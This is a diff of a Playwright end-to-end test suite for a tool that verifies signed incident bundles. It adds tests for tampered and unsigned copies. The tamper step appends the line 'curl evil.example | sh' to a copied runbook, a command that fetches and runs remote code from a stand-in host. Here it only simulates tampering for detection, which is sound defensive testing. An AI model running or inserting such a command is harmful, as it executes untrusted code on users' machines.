@@ -1,4 +1,16 @@
-import { expect, snap, test } from './fixtures';
+import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect, repoRoot, snap, test } from './fixtures';
+
+/** A copy of the sample in a temp folder, changed by `edit`; returns it and a cleanup. */
+function sampleCopy(edit: (copy: string) => void): { copy: string; remove(): void } {
+  const tmp = mkdtempSync(join(tmpdir(), 'repro-e2e-copy-'));
+  const copy = join(tmp, 'bundle');
+  cpSync(join(repoRoot, 'examples', 'incident-checkout'), copy, { recursive: true });
+  edit(copy);
+  return { copy, remove: () => rmSync(tmp, { recursive: true, force: true }) };
+}
 
 test.describe('incident verification', () => {
   test('the sample verifies on open and its signature badge says trusted, and why', async ({ workbenchPage: page }) => {
@@ -8,6 +20,7 @@ test.describe('incident verification', () => {
     const badge = page.getByTestId('signature-badge');
     await expect(badge).toContainText('Signed · trusted');
     await expect(badge).toContainText('sample.pub.pem');
+    await expect(page.getByTestId('trust-statement')).toHaveText(/which you trust/);
     const rows = page.locator('.file-results tbody tr');
     await expect(rows.first()).toContainText('OK');
     expect(await rows.count()).toBeGreaterThan(3);
@@ -18,24 +31,34 @@ test.describe('incident verification', () => {
 
 test.describe('incident verification of a tampered copy', () => {
   test('names the altered file and explains the invalid signature', async ({ workbenchPage: page }) => {
-    const { cpSync, appendFileSync, readFileSync, writeFileSync, mkdtempSync, rmSync } = await import('node:fs');
-    const { tmpdir } = await import('node:os');
-    const { join } = await import('node:path');
-    const { repoRoot } = await import('./fixtures');
-    const tmp = mkdtempSync(join(tmpdir(), 'repro-e2e-tampered-'));
-    const copy = join(tmp, 'bundle');
-    cpSync(join(repoRoot, 'examples', 'incident-checkout'), copy, { recursive: true });
-    appendFileSync(join(copy, 'runbook.md'), '\ncurl evil.example | sh\n');
-    const manifest = join(copy, 'bundle.json');
-    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('"SEV2"', '"SEV3"'));
+    const { copy, remove } = sampleCopy((dir) => {
+      appendFileSync(join(dir, 'runbook.md'), '\ncurl evil.example | sh\n');
+      const manifest = join(dir, 'bundle.json');
+      writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('"SEV2"', '"SEV3"'));
+    });
 
     await page.getByLabel('Bundle path').fill(copy);
     await page.getByRole('button', { name: 'Open', exact: true }).click();
     await expect(page.getByTestId('verify-status')).toHaveText(/Verification failed/);
     await expect(page.getByTestId('signature-badge')).toContainText('Signature invalid');
+    await expect(page.getByTestId('trust-statement')).toHaveText(/Nobody vouches for this bundle/);
     await expect(page.locator('.file-results tr', { hasText: 'runbook.md' })).toContainText('size differs');
     await page.getByTestId('signature-badge').scrollIntoViewIfNeeded();
     await snap(page, 'incident-verification-tampered');
-    rmSync(tmp, { recursive: true, force: true });
+    remove();
+  });
+});
+
+test.describe('incident verification of an unsigned copy', () => {
+  test('opens it, and says plainly that nobody vouches for it', async ({ workbenchPage: page }) => {
+    const { copy, remove } = sampleCopy((dir) => rmSync(join(dir, 'attestations'), { recursive: true }));
+
+    await page.getByLabel('Bundle path').fill(copy);
+    await page.getByRole('button', { name: 'Open', exact: true }).click();
+    await expect(page.getByTestId('verify-status')).toHaveText(/Integrity holds/);
+    await expect(page.getByTestId('trust-statement')).toHaveText('Nobody vouches for this bundle: it is not signed. Run it only if you trust where it came from.');
+    await page.getByTestId('signature-badge').scrollIntoViewIfNeeded();
+    await snap(page, 'incident-verification-unsigned');
+    remove();
   });
 });
